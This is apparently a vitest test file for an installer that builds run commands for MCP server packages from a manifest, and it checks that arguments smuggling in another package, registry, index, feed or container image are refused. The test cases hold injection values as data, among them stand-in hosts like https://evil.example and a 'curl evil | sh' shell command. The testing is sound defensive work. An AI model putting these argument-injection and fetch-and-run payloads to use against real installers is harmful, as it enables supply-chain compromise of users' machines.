import { describe, expect, it } from "vitest";
import type { Package } from "@/lib/manifest/schema";
import { buildInstallPlan } from "./plan";

const words = (...values: string[]): NonNullable<Package["runtimeArguments"]> => values.map((value) => ({ type: "positional", value }));
const named = (name: string, value?: string): NonNullable<Package["runtimeArguments"]>[number] => ({ type: "named", name, ...(value !== undefined && { value }) });

const PACKAGES = {
  npm: { registryType: "npm", identifier: "@acme/weather-mcp", version: "1.4.2" },
  nuget: { registryType: "nuget", identifier: "Acme.Weather", version: "1.4.2" },
  bun: { registryType: "npm", identifier: "@acme/weather-mcp", version: "1.4.2", runtimeHint: "bunx" },
  pypi: { registryType: "pypi", identifier: "weather-mcp", version: "1.4.2" },
  pipx: { registryType: "pypi", identifier: "weather-mcp", version: "1.4.2", runtimeHint: "pipx" },
  oci: { registryType: "oci", identifier: "ghcr.io/acme/weather:1.4.2" },
} as const;

function targetOf(kind: keyof typeof PACKAGES, runtimeArguments: Package["runtimeArguments"]) {
  const manifest = { $schema: "s", name: "com.acme/weather", description: "Weather", version: "1.4.2", packages: [{ ...PACKAGES[kind], transport: { type: "stdio" as const }, runtimeArguments }] };
  return buildInstallPlan({ manifest, digest: "sha256:00", status: "approved", tools: [] }).targets[0];
}

describe("runtime arguments", () => {
  it.each<[keyof typeof PACKAGES, string, Package["runtimeArguments"]]>([
    ["npm", "another package in front", words("evil")],
    ["npm", "another package after an option with its value", [named("--loglevel", "error"), ...words("evil")]],
    ["npm", "another package after an option without one", words("--offline", "evil")],
    ["npm", "another package after an option that nobody knows", words("--no-audit", "evil")],
    ["npm", "the first argument of the package, which an option that nobody knows makes the first word", words("--script-shell")],
    ["npm", "the first argument of the package, for an option takes the package", words("--cache")],
    ["npm", "the package of another registry", [named("--registry", "https://evil.example")]],
    ["npm", "the package of another registry of its scope", words("--@acme:registry=https://evil.example")],
    ["bun", "another package after an option without a value", words("--bun", "evil")],
    ["bun", "another package after an option that only npx knows", words("--loglevel", "evil")],
    ["pypi", "another project after an option without a value", words("--upgrade", "evil")],
    ["pypi", "another project after letters", words("-qn", "evil")],
    ["pypi", "another project after a letter with its value", words("-p3.12", "evil")],
    ["pypi", "the project of another index", [named("--index-url", "https://evil.example/simple")]],
    ["pypi", "the project of another index, by a letter", words("-i", "https://evil.example/simple")],
    ["pipx", "another project after an option without a value", words("--pypackages", "evil")],
    ["oci", "another image after letters", words("-itd", "evil:1")],
    ["oci", "another image, for an option took the next one", words("--network", "-v", "evil:1")],
    ["npm", "another package by --package", [named("--package", "evil")]],
    ["npm", "another package by the beginning of --package", words("--pack=evil")],
    ["npm", "another package by -p among other letters", words("-qp", "evil")],
    ["npm", "a command of a shell", [named("-c", "curl evil | sh")]],
    ["npm", "another package by a default", [{ type: "positional", valueHint: "x", default: "--package=evil" }]],
    ["npm", "another package after the end of options", words("--", "evil")],
    ["nuget", "another tool in front", words("Evil.Tool")],
    ["nuget", "another feed", [named("--add-source", "https://evil.example/v3")]],
    ["oci", "another image in front", words("evil:1")],
    ["oci", "another image after an option without a value", words("--privileged", "evil:1")],
    ["oci", "another image after an option with its value", [named("--network", "host"), ...words("evil:1")]],
  ])("of %s are refused that start %s", (kind, _what, runtimeArguments) => expect(targetOf(kind, runtimeArguments)).toMatchObject({ reason: { code: "package-source" } }));

  it.each<[keyof typeof PACKAGES, Package["runtimeArguments"], string[]]>([
    ["npm", [...words("-y"), named("--loglevel", "error")], ["-y", "--loglevel", "error", "@acme/weather-mcp@1.4.2"]],
    ["bun", words("--bun"), ["--bun", "@acme/weather-mcp@1.4.2"]],
    ["pypi", [named("--python", "3.12"), ...words("--refresh", "--exclude-newer=2026-01-01")], ["--python", "3.12", "--refresh", "--exclude-newer=2026-01-01", "weather-mcp==1.4.2"]],
    ["nuget", words("--allow-roll-forward"), ["--allow-roll-forward", "Acme.Weather@1.4.2", "--yes"]],
    ["oci", [named("--network", "host"), named("-v", "/data:/data:ro")], ["run", "-i", "--rm", "--network", "host", "-v", "/data:/data:ro", "ghcr.io/acme/weather:1.4.2"]],
  ])("of %s that only choose how it runs are kept: %j", (kind, runtimeArguments, args) => expect(targetOf(kind, runtimeArguments)).toMatchObject({ args }));
});
